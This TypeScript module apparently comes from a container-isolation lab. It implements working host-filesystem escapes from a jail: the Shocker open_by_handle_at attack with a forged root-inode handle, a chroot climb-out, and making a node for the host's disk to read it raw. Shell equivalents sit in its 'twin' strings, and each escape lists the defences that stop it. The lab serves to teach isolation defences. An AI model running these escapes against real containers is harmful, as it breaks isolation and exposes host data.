// Escapes to the host's files by roads other than a path. pivot_root took
// away every path to the host's tree — but the tree is still there, on the
// same filesystem and the same disk as the jail's root. A file handle names
// an inode without any path ("Shocker", 2014: open_by_handle_at with
// CAP_DAC_READ_SEARCH); a device node names the disk itself. Step 02's
// chroot escape is here too, to show which wall already stops it.
import koffi from 'koffi';
import { constants, existsSync, openSync, readdirSync, readFileSync, readSync, rmdirSync, rmSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { mknod, SyscallError } from '../../lib/libc.ts';
import { escapeChroot } from '../02-chroot/escape.ts';
import type { Escape } from './escapes.ts';
import { closeQuietly, failed, scratchDir } from './escapes-tools.ts';

const libc = koffi.load('libc.so.6');
const _openByHandleAt = libc.func('int open_by_handle_at(int mount_fd, void *handle, int flags)');
// openat's mode argument matters only with O_CREAT, which the lab never passes
const _openat = libc.func('int openat(int dirfd, const char *path, int flags)');

/**
 * ext2/3/4 give every filesystem's root directory inode 2, and a handle of
 * type FILEID_INO32_GEN (1) is just {inode, generation}; generation 0 means
 * "do not check". So the handle of the host filesystem's root can be written
 * down without asking the kernel for it — Shocker guessed handles the same way.
 */
function rootHandle(): Buffer {
  const h = Buffer.alloc(16);
  h.writeUInt32LE(8, 0); // handle_bytes
  h.writeInt32LE(1, 4); // handle_type: FILEID_INO32_GEN
  h.writeUInt32LE(2, 8); // inode 2: the root directory
  h.writeUInt32LE(0, 12); // generation
  return h;
}

export const openByHandleAt: Escape = {
  name: 'open_by_handle_at',
  title: 'open the host filesystem by a file handle',
  teaches:
    "open_by_handle_at(2) opens an inode by its handle, with no path — and so with no root to stay below. With CAP_DAC_READ_SEARCH, any fd in the jail (here its /) names the host's filesystem, and handle {inode 2} its root directory: the host's whole tree.",
  twin: 'no shell twin: Shocker (2014) is a C program: open_by_handle_at(open("/"), {type 1, inode 2}, O_DIRECTORY), then openat(…, "var/lib/…/marker")',
  fixture: 'ext4-marker',
  stoppers: [
    { wall: 'seccomp', label: 'seccomp: open_by_handle_at', errno: 'EPERM', why: 'open_by_handle_at(2) is on the deny list' },
    { wall: 'caps', cap: 'DAC_READ_SEARCH', label: 'no CAP_DAC_READ_SEARCH', errno: 'EPERM', why: 'only CAP_DAC_READ_SEARCH lets the kernel decode any handle; the jail does not keep it' },
    {
      wall: 'userns',
      label: 'user namespace',
      errno: 'ESTALE',
      why: "capabilities of the jail's user namespace do not count for the host's filesystem: since Linux 6.9 the kernel then opens a handle only if it names something below the mount it comes through, and the host's root is above it",
    },
  ],
  attempt({ marker = '' }) {
    const name = 'open_by_handle_at';
    let mountFd: number | undefined;
    let rootFd = -1;
    let markerFd = -1;
    try {
      mountFd = openSync('/', constants.O_RDONLY | constants.O_DIRECTORY);
      rootFd = _openByHandleAt(mountFd, rootHandle(), constants.O_RDONLY | constants.O_DIRECTORY);
      if (rootFd < 0) return failed(name, new SyscallError('open_by_handle_at', koffi.errno()));
      // /proc/self/fd/N leads to the inode itself, even one outside our root
      const top = readdirSync(`/proc/self/fd/${rootFd}`).sort().slice(0, 12).join(' ');
      markerFd = _openat(rootFd, marker, constants.O_RDONLY);
      if (markerFd < 0) return failed(name, new SyscallError(`openat ${marker}`, koffi.errno()), `the host's root holds ${top}`);
      const secret = readAll(markerFd);
      return { name, out: true, evidence: `read the host's /${marker} through a handle of its filesystem's root: "${secret}" (that root holds ${top} …)` };
    } catch (err) {
      return failed(name, err);
    } finally {
      closeQuietly(markerFd);
      closeQuietly(rootFd);
      closeQuietly(mountFd);
    }
  },
};

function readAll(fd: number, max = 256): string {
  const buf = Buffer.alloc(max);
  const n = readSync(fd, buf, 0, max, 0);
  return buf.toString('utf8', 0, n).trim();
}

export const chrootAgain: Escape = {
  name: 'chroot',
  title: "step 02's chroot escape",
  teaches:
    "Step 02: chroot into a subdirectory without chdir, climb '..' out of it, chroot('.'). In a chroot jail that lands on the host's /. After pivot_root there is no host's / left in the jail's mount namespace to climb to: the climb stops at the jail's own root.",
  twin: "chroot /tmp/x; cd ../../..; chroot .   (step 02's escape.ts does it without the shell's chdir)",
  fixture: 'marker',
  stoppers: [{ wall: 'pivot_root', label: 'pivot_root', why: "pivot_root (step 04) moved the host's root out of the jail's mount namespace and detached it: '..' ends at the jail's /" }],
  attempt({ hostPath = '' }) {
    const name = 'chroot';
    const scratch = scratchDir('chroot');
    try {
      escapeChroot(scratch);
    } catch (err) {
      return failed(name, err, 'the climb');
    } finally {
      // the climb cannot leave the namespace's root, so the scratch directory is still at its path
      rmSync(scratch, { recursive: true, force: true });
    }
    if (existsSync(hostPath)) return { name, out: true, evidence: `landed on the host's /: ${hostPath} holds "${readFileSync(hostPath, 'utf8').trim()}"` };
    return { name, out: false, evidence: `landed on the jail's own /: ${readdirSync('/').sort().join(' ')}; no ${hostPath}` };
  },
};

const S_IFBLK = 0o060000;

/** glibc's dev_t layout: 12 bits of major and 20 of minor, split around bit 8 and bit 32. */
function splitDev(dev: bigint): [number, number] {
  const major = ((dev >> 8n) & 0xfffn) | ((dev >> 32n) & ~0xfffn);
  const minor = (dev & 0xffn) | ((dev >> 12n) & ~0xffn);
  return [Number(major), Number(minor)];
}

function makeDev(major: number, minor: number): bigint {
  const [ma, mi] = [BigInt(major), BigInt(minor)];
  return ((ma & 0xfffff000n) << 32n) | ((ma & 0xfffn) << 8n) | ((mi & 0xffffff00n) << 12n) | (mi & 0xffn);
}

/** An ext2/3/4 superblock starts 1024 bytes in: magic 0xEF53 at +56, the UUID at +104, the label at +120. */
export function describeDiskStart(bytes: Buffer): string {
  if (bytes.length >= 1160 && bytes.readUInt16LE(1024 + 56) === 0xef53) {
    const uuid = bytes.subarray(1024 + 104, 1024 + 120).toString('hex').replace(/^(.{8})(.{4})(.{4})(.{4})/, '$1-$2-$3-$4-');
    const label = bytes.subarray(1024 + 120, 1024 + 136).toString('latin1').replace(/\0.*$/s, '');
    return `ext4 superblock magic 0xEF53, UUID ${uuid}${label ? `, label "${label}"` : ''}`;
  }
  return `no ext4 superblock; first bytes ${bytes.subarray(0, 16).toString('hex')}`;
}

export const mknodDisk: Escape = {
  name: 'mknod_disk',
  title: "mknod the host's disk, read its superblock",
  teaches:
    "The jail's / lives on a host disk, and stat('/') names it (st_dev, e.g. 254:0 = /dev/vda). Root with CAP_MKNOD makes a node for that disk in its own /dev and reads it raw: every file of the host, and with a write, its end (the lab only reads).",
  twin: "stat -c '%Hd:%Ld' /   then   mknod /dev/disk b 254 0 && dd if=/dev/disk bs=2048 count=1 | hexdump -C",
  fixture: 'disk',
  stoppers: [
    { wall: 'userns', label: 'user namespace', errno: 'EPERM', why: "a user namespace may not make device nodes: mknod of a block device needs CAP_MKNOD in the host's user namespace" },
    { wall: 'devices', label: 'devices cgroup', errno: 'EPERM', why: 'on cgroup v1 the devices controller lets the jail open only the minimal /dev: the disk is not on the list' },
  ],
  attempt() {
    const name = 'mknod_disk';
    const [major, minor] = splitDev(statSync('/', { bigint: true }).dev);
    if (major === 0) return { name, out: false, evidence: `the jail's / is on a virtual filesystem (device 0:${minor}): no disk to name`, error: 'n/a' };
    const dir = scratchDir('disk');
    const node = join(dir, `${major}:${minor}`);
    let fd: number | undefined;
    try {
      mknod(node, S_IFBLK | 0o400, makeDev(major, minor));
      fd = openSync(node, constants.O_RDONLY); // read only, always
      const bytes = Buffer.alloc(2048);
      const n = readSync(fd, bytes, 0, bytes.length, 0);
      return { name, out: true, evidence: `read ${n} bytes of the host's disk ${major}:${minor} through ${node}: ${describeDiskStart(bytes.subarray(0, n))}` };
    } catch (err) {
      return failed(name, err, `the disk ${major}:${minor}`);
    } finally {
      closeQuietly(fd);
      rmSync(node, { force: true });
      rmdirSync(dir);
    }
  },
};

export const hostFilesystemEscapes = [openByHandleAt, chrootAgain, mknodDisk];
